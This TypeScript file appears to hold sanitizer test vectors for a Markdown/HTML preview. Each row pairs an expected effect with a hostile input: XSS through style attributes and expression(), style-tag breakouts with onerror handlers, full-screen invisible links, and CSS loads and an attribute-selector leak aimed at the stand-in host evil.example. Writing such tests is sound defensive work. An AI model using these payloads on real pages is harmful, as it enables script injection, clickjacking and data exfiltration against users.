import type { VectorRow } from './vector.ts';

/** What would change looks, cover the page, or fetch by way of a style. */
export const STYLES: readonly VectorRow[] = [
  ['address in a style', 'runs', '<p style="background:url(javascript:X())">text</p>'],
  ['picture in a style', 'loads', '<p style="background-image:url(https://evil.example/b.png)">text</p>'],
  ['escaped address in a style', 'loads', '<p style="b\\61ckground:u\\72l(//evil.example/b)">text</p>'],
  ['cover', 'restyles', '<p style="position:fixed;inset:0;z-index:9">text</p>'],
  [
    'cover in a link',
    'navigates',
    '<a href="https://evil.example/" style="position:absolute;inset:-99em">.</a>',
  ],
  [
    'invisible link',
    'navigates',
    '<a href="https://evil.example/" style="opacity:0;display:block;width:100vw;height:100vh">.</a>',
  ],
  ['text moved away', 'restyles', '<p style="text-indent:-9999px">text</p><p style="display:none">text</p>'],
  ['expression', 'runs', '<p style="width:expression(X())">text</p>'],
  ['expression with a comment', 'runs', '<p style="xss:expr/*x*/ession(X())">text</p>'],
  ['binding', 'runs', '<p style="-moz-binding:url(//evil.example/x.xml#a);behavior:url(x.htc)">text</p>'],
  [
    'style that ends early',
    'runs',
    '<style>body{display:none}</style><style><img src=x onerror=X()></style>',
  ],
  ['import', 'loads', '<style>@import url(https://evil.example/x.css);</style>'],
  ['import of a name in two parts', 'loads', "<style>@im\\port'\\//evil.example/x.css';</style>"],
  ['image-set', 'loads', '<style>p{background:image-set("https://evil.example/s" 1x)}</style><p>text</p>'],
  [
    'font',
    'loads',
    '<style>@font-face{font-family:a;src:url(//evil.example/f)}p{font-family:a}</style><p>text</p>',
  ],
  [
    'cursor and list mark',
    'loads',
    '<ul style="list-style:url(https://evil.example/l)"><li style="cursor:url(//evil.example/c),auto">text</ul>',
  ],
  [
    'what an attribute holds, letter by letter',
    'loads',
    '<style>input[value^=a]{background:url(//evil.example/a)}</style><input value=abc>',
  ],
  ['counter and content', 'forges', '<style>h1::after{content:"forged"}</style><h1>text</h1>'],
  ['style in the middle of a word', 'restyles', 'te<style>*{color:transparent}</style>xt'],
  ['style of one page', 'restyles', '<style media=all scoped>@page{size:1px}*{all:unset!important}</style>'],
  ['style inside Markdown', 'restyles', '> <style>\n> p{display:none}\n> </style>'],
  ['class of a header', 'forges', '<div class="galley-header galley-junk">text</div>'],
  ['class of a notice', 'forges', '<p class="galley-notice">This post is too long to preview.</p>'],
  [
    'class of the strip above the page',
    'forges',
    '<div class="galley-blocked galley-tracker galley-status"><button class="galley-show">text</button></div>',
  ],
  [
    'classes of VS Code',
    'forges',
    '<div class="vscode-high-contrast monaco-editor codicon codicon-error">text</div>',
  ],
  [
    'attributes of looks',
    'restyles',
    '<p align=right bgcolor=red background=x>text</p><table width=9999 height=9999 border=9 cellpadding=99 bgcolor=red><td nowrap width=9999>text</table>',
  ],
  [
    'picture of great size',
    'restyles',
    '<img src=x width=99999999 height=99999999 hspace=999 border=99 align=left style="width:9999px">',
  ],
  [
    'text of great size',
    'restyles',
    '<font size=7 color=red><big><big><big><big>text</big></big></big></big></font><basefont size=7>',
  ],
  [
    'name of an animation',
    'restyles',
    '<marquee behavior=alternate scrollamount=99>text</marquee><blink>text</blink>',
  ],
  [
    'attribute value that ends a style',
    'runs',
    '<p style="color:red&quot;><img src=x onerror=X()>">text</p>',
  ],
  [
    'alignment of a cell with more',
    'restyles',
    '<table><td style="text-align:left;position:fixed">a<td style="text-align:left\n;x:y">b</table>',
  ],
  [
    'view transition and anchor',
    'restyles',
    '<p style="view-transition-name:root;anchor-name:--a;animation:a 1s">text</p>',
  ],
  ['style by attributes that are to come', 'restyles', '<p styles="x" css="y" sx="position:fixed">text</p>'],
];
